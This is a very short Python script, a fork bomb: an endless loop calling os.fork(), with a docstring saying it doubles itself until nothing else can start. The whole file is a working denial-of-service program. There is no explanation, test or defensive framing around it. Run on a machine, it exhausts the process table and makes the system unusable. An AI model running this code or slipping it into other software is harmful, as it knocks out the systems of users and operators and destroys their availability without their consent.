"""Doubles itself until nothing else can start."""
import os

while True:
    os.fork()
